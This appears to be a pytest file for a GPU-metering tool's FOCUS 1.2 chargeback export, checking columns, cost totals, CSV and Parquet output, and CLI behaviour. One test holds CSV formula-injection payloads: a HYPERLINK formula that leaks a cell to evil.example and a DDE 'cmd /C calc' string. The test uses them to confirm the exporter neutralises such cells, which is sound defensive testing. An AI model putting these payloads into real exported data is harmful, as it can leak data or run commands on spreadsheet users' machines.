"""The FOCUS export checked column by column against the FOCUS 1.2 column list kept in
metering/data/focus-columns.yaml (extracted from the specification, source named there), on a
month priced by the real engine: discounts (adjustment rows), idle kept apart or shared out."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from test_report_fixtures import insert_coverage

from metering.costmodel import load_cost_model
from metering.db import connect
from metering.period import Month
from metering.pricing import price_period
from metering.report import focus
from metering.report.builder import make_report
from metering.report.cli import main as report_main
from tests.ledger_rows import ins

D = Decimal
H100 = "NVIDIA H100 80GB HBM3"
COST_MODEL = """
currency: EUR
pricing:
  default: {hourly: 1.00}
  gpus:
    - {model: "NVIDIA H100 80GB HBM3", hourly: 4.00}
discounts:
  teams: {vision: 0.25}
idle:
  policy: %s
"""
ARROW_TYPES = {"String": pa.string(), "JSON": pa.string(), "Date/Time": pa.timestamp("ms", "UTC")}


def _db(tmp_path: Path, policy: str) -> tuple[Path, Path]:
    """Two GPUs for two hours of 2026-10-01: GPU-a held whole by vision (25 % off), GPU-b
    cut in 4 time-slicing replicas, one held by search for 30 minutes of each hour."""
    cm = tmp_path / "cm.yaml"
    cm.write_text(COST_MODEL % policy)
    db = tmp_path / "m.duckdb"
    con = connect(db)
    for h in (0, 1):
        hour = datetime(2026, 10, 1, h)
        for uuid in ("GPU-a", "GPU-b"):
            con.execute(ins("device_hours") + "VALUES (?, 'node-1', '0', ?, ?, false, 3600, "
                        "3600, NULL, NULL)", [hour, uuid, H100])
        for pod, team, uuid, sharing, replicas, secs in (
                ("train-1", "vision", "GPU-a", "exclusive", 1, 3600),
                ("nb-1", "search", "GPU-b", "time-slicing", 4, 1800)):
            con.execute(ins("allocation_hours") + "VALUES (?, 'node-1', 'ml', ?, 'main', ?, "
                        "'', 'nvidia.com/gpu', ?, ?, 1, ?, 0, ?, MAP {'team': ?})",
                        [hour, pod, uuid, sharing, replicas, secs, secs * 0.5, team])
    insert_coverage(con, datetime(2026, 10, 1), datetime(2026, 10, 1, 2), [])
    price_period(con, load_cost_model(cm), datetime(2026, 10, 1), datetime(2026, 11, 1))
    con.close()
    return db, cm


def _fleet_cost(db: Path) -> Decimal:
    con = connect(db, read_only=True)
    try:
        return Decimal(con.execute("SELECT sum(cost) FROM charges").fetchone()[0])
    finally:
        con.close()


@pytest.fixture(params=["separate", "proportional"])
def month(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Path, Path]:
    return _db(tmp_path, request.param)


def test_spec_data_names_its_source_and_21_mandatory_columns() -> None:
    doc = yaml.safe_load((Path(focus.__file__).parent.parent / "data" /
                          "focus-columns.yaml").read_text())
    assert doc["focus_version"] == "1.2" and doc["source"]["tag"] == "v1.2"
    assert len(doc["source"]["commit"]) == 40 and "CC-BY-4.0" in doc["source"]["licence"]
    assert len(focus.spec().mandatory) == 21


def test_parquet_matches_the_spec_column_by_column(month: tuple[Path, Path]) -> None:
    db, cm = month
    report = make_report(str(db), Month.parse("2026-10"), str(cm), 20, charge_days=True)
    table = pq.read_table(io.BytesIO(focus.render_parquet(report)))
    spec = focus.spec()
    names = table.column_names
    assert table.schema.metadata[b"focus_version"] == b"1.2"
    # Every Mandatory column is there; every other column is a FOCUS column or an x_ column,
    # and custom columns come after all FOCUS columns.
    for col in spec.mandatory:
        assert col in names, col
    first_custom = next(i for i, n in enumerate(names) if n.startswith("x_"))
    assert all(n in spec.columns for n in names[:first_custom])
    assert all(n.startswith("x_") for n in names[first_custom:])
    for name in names[:first_custom]:
        col = spec.columns[name]
        field = table.schema.field(name)
        if col.data_type == "Decimal":
            assert pa.types.is_decimal(field.type), name
        else:
            assert field.type == ARROW_TYPES[col.data_type], name
        if not col.allows_nulls:
            assert table.column(name).null_count == 0, name
    rows = table.to_pylist()
    assert {r["ChargeCategory"] for r in rows} <= {"Usage", "Adjustment"}
    assert all(r["ChargeClass"] is None for r in rows)
    for r in rows:
        json.loads(r["Tags"])
        assert r["BillingPeriodStart"] <= r["ChargePeriodStart"] < r["ChargePeriodEnd"]
        assert r["ChargePeriodEnd"] <= r["BillingPeriodEnd"]
        assert r["BillingCurrency"] == "EUR"
        if r["ListUnitPrice"] is not None:  # the spec's product rule
            assert abs(r["ListUnitPrice"] * r["PricingQuantity"] - r["ListCost"]) <= D("1e-6")
        if r["ChargeCategory"] == "Usage":
            assert r["PricingQuantity"] is not None and r["PricingUnit"] == "GPU-Hours"
            assert r["ConsumedQuantity"] is not None
        else:
            assert r["ConsumedQuantity"] is None


def test_billed_and_list_cost_add_up_to_the_fleet(month: tuple[Path, Path]) -> None:
    db, cm = month
    report = make_report(str(db), Month.parse("2026-10"), str(cm), 20, charge_days=True)
    rows = list(focus.rows(report))
    fleet = _fleet_cost(db)
    # 2 GPUs x 2 hours x 4.00 = 16.00: the fleet's cost, whatever the policy.
    assert fleet == D("16")
    assert sum(r["BilledCost"] for r in rows) == fleet
    assert abs(sum(r["ListCost"] for r in rows) - fleet) <= D("0.00001")
    vision = [r for r in rows if r["x_Team"] == "vision" and r["x_RowKind"] == "team"]
    # 2 GPU-hours at 4.00 list, 25 % off: list 8.00, billed 6.00 (plus idle under sharing).
    assert sum(r["ListCost"] for r in vision) == D("8")
    assert sum(r["BilledCost"] for r in vision) == D("6")
    adjustment = [r for r in rows if r["ChargeCategory"] == "Adjustment"]
    assert sum(r["BilledCost"] for r in adjustment) == D("2")


def test_csv_has_the_same_rows_and_iso_utc_times(month: tuple[Path, Path]) -> None:
    db, cm = month
    report = make_report(str(db), Month.parse("2026-10"), str(cm), 20, charge_days=True)
    parsed = list(csv.DictReader(io.StringIO(focus.render_csv(report).decode())))
    assert len(parsed) == len(list(focus.rows(report)))
    assert parsed[0]["BillingPeriodStart"] == "2026-10-01T00:00:00Z"
    assert parsed[0]["BillingPeriodEnd"] == "2026-11-01T00:00:00Z"
    assert all(r["x_FocusVersion"] == "1.2" for r in parsed)


def test_cli_writes_focus_csv_and_parquet(tmp_path: Path) -> None:
    db, cm = _db(tmp_path, "separate")
    out = tmp_path / "out"
    code = report_main(["--month", "2026-10", "--db", str(db), "--cost-model", str(cm),
                        "--out", str(out), "--format", "focus"])
    assert code == 0
    assert sorted(p.name for p in out.iterdir()) == [
        "chargeback-2026-10.focus.csv", "chargeback-2026-10.focus.parquet"]


def test_focus_without_the_cost_model_is_refused(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    db, _ = _db(tmp_path, "separate")
    # A ledger without its copy of the cost model (charges priced before ledgers kept one):
    # without --cost-model the report only knows the charges' hash, no currency or list price.
    con = connect(db)
    con.execute("DELETE FROM cost_models")
    con.close()
    code = report_main(["--month", "2026-10", "--db", str(db), "--out", str(tmp_path / "o"),
                        "--format", "focus"])
    assert code == 2
    err = capsys.readouterr().err
    assert "--format focus" in err and "--cost-model" in err and "Traceback" not in err
    assert not (tmp_path / "o").exists() or not any((tmp_path / "o").iterdir())


def test_a_refused_export_leaves_the_previous_files_as_they_were(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The FOCUS files are streamed into their temporary files (a month of 80,000 GPUs is
    ~0.9 GB of CSV): an export refused while it is being written leaves the report written
    before byte for byte, and no temporary file."""
    db, cm = _db(tmp_path, "separate")
    out = tmp_path / "out"
    assert report_main(["--month", "2026-10", "--db", str(db), "--cost-model", str(cm),
                        "--out", str(out), "--format", "csv,focus"]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert sorted(before) == ["chargeback-2026-10.csv", "chargeback-2026-10.focus.csv",
                              "chargeback-2026-10.focus.parquet"]
    con = connect(db)
    con.execute("DELETE FROM cost_models")
    con.execute("UPDATE charges SET cost = cost + 1")  # a CSV that would differ
    con.close()
    capsys.readouterr()
    code = report_main(["--month", "2026-10", "--db", str(db), "--out", str(out),
                        "--format", "csv,focus"])
    assert code == 2
    err = capsys.readouterr().err
    assert "--format focus" in err and "Traceback" not in err
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
           "@SUM(1,1)", "-2+3", "\tx")


def test_focus_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    """Team, namespace and pod names that a spreadsheet would run as formulas are written with
    the chargeback CSV's leading quote (one rule, csvout.neutralise), in every text column."""
    cm = tmp_path / "cm.yaml"
    cm.write_text(COST_MODEL % "separate")
    db = tmp_path / "m.duckdb"
    con = connect(db)
    hour = datetime(2026, 10, 1)
    for i, name in enumerate(HOSTILE):
        uuid = f"GPU-{i}"
        con.execute(ins("device_hours") + "VALUES (?, 'node-1', ?, ?, ?, false, 3600, 3600, "
                    "NULL, NULL)", [hour, str(i), uuid, H100])
        con.execute(ins("allocation_hours") + "VALUES (?, 'node-1', ?, ?, 'main', ?, '', "
                    "'nvidia.com/gpu', 'exclusive', 1, 1, 3600, 0, 1800, MAP {'team': ?})",
                    [hour, name, name, uuid, name])
    insert_coverage(con, hour, datetime(2026, 10, 1, 1), [])
    price_period(con, load_cost_model(cm), hour, datetime(2026, 11, 1))
    con.close()
    report = make_report(str(db), Month.parse("2026-10"), str(cm), 20, charge_days=True)
    parsed = list(csv.DictReader(io.StringIO(focus.render_csv(report).decode())))
    columns = ("ResourceName", "SubAccountId", "SubAccountName", "x_Team", "x_Namespace")
    teams = [r for r in parsed if r["x_RowKind"] == "team"]
    assert {r["x_Team"] for r in teams} == {"'" + n for n in HOSTILE}
    for r in parsed:
        for col in columns:
            assert not r[col].startswith(("=", "+", "-", "@", "\t", "\r")), (col, r[col])
    for r in teams:
        assert {r[c] for c in columns} == {r["x_Team"]}
    # Parquet is typed data, not a spreadsheet: names there are as they are.
    table = pq.read_table(io.BytesIO(focus.render_parquet(report)))
    assert set(HOSTILE) <= set(table.column("x_Team").to_pylist())
